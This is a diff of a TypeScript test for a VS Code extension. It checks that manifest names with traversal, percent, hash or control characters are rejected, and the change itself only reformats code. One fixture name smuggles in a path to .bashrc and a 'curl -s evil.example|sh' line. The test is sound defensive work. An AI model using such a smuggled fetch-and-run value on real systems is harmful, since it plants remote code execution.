@@ -13,7 +13,16 @@ import { fakeHost } from './support/fakeExtensionHost';
 
 // A legal file name on Linux (no '/'), as committed to a repository.
 const HOSTILE = '..%2F.bashrc#\ncurl -s evil.example|sh\n#.atpproxy.json';
-const RESULT: ProbeResult = { host: 'contososensorapi.atp.azure.com', port: 443, status: 'ok', ms: 12, via: 'DIRECT', issuer: 'Microsoft', detail: 'ok', kind: 'sensorApi' };
+const RESULT: ProbeResult = {
+  host: 'contososensorapi.atp.azure.com',
+  port: 443,
+  status: 'ok',
+  ms: 12,
+  via: 'DIRECT',
+  issuer: 'Microsoft',
+  detail: 'ok',
+  kind: 'sensorApi',
+};
 
 function withReport(name: string) {
   // VS Code's spelling of the manifest's URI: every character outside the unreserved set percent-encoded.
@@ -36,9 +45,21 @@ describe('extension: Save Connectivity Report writes only next to the manifest',
   });
 
   it('refuses a manifest name with %, #, ? or a control character, and writes nothing', async () => {
-    for (const name of [HOSTILE, 'a%2Fb.atpproxy.json', 'a#b.atpproxy.json', 'a?b.atpproxy.json', 'a\u0007b.atpproxy.json', 'a\u2028b.atpproxy.json', 'a\\..\\b.atpproxy.json']) {
+    for (const name of [
+      HOSTILE,
+      'a%2Fb.atpproxy.json',
+      'a#b.atpproxy.json',
+      'a?b.atpproxy.json',
+      'a\u0007b.atpproxy.json',
+      'a\u2028b.atpproxy.json',
+      'a\\..\\b.atpproxy.json',
+    ]) {
       const { uri, host, reports } = withReport(name);
-      await assert.rejects(reports.save(uri), (e: Error) => e.name === 'UserError' && /Cannot save the report of this manifest: the name contains/.test(e.message), name);
+      await assert.rejects(
+        reports.save(uri),
+        (e: Error) => e.name === 'UserError' && /Cannot save the report of this manifest: the name contains/.test(e.message),
+        name,
+      );
       assert.deepStrictEqual([...host.files.map.keys()], [uri], `${JSON.stringify(name)} wrote a file`);
     }
   });
